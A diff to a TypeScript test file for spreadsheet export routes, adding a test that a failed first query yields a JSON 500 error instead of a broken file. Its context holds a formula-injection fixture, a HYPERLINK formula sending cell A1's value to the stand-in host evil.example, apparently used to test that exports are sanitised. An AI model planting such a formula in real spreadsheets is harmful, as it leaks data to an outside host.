@@ -21,6 +21,7 @@ import { createTestDatabase } from '../test/db';
 import { signedInAdmin, signedInCustomer, signedInStaff } from '../test/factories';
 import { rowValues, xlsxSheetOf } from '../test/xlsx';
 import { registerExportRoutes } from './exports';
+import { sendXlsxDownload } from './xlsx-download';
 
 const FORMULA = `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`;
 
@@ -151,5 +152,27 @@ describe('GET /api/exports/reporte.xlsx', () => {
     const states = workbook.getWorksheet('Estados')!;
     const counts = states.getColumn(3).values.slice(2) as number[];
     expect(counts.filter((n) => typeof n === 'number').reduce((a, b) => a + b, 0)).toBeGreaterThanOrEqual(5);
+  });
+});
+
+describe('sendXlsxDownload', () => {
+  it('reads the first batch before answering, so a failing query answers an error, not a broken file', async () => {
+    const app = Fastify();
+    app.get('/x.xlsx', (_req, reply) =>
+      sendXlsxDownload(reply, {
+        filename: 'x.xlsx',
+        sheet: 'X',
+        headers: ['A'],
+        // biome-ignore lint/correctness/useYield: a query that fails before its first rows
+        batches: (async function* (): AsyncGenerator<string[][]> {
+          throw new Error('consulta fallida');
+        })(),
+        cells: (row) => row,
+      }),
+    );
+    const res = await app.inject({ url: '/x.xlsx' });
+    expect(res.statusCode).toBe(500);
+    expect(res.headers['content-type']).toMatch(/^application\/json/);
+    await app.close();
   });
 });
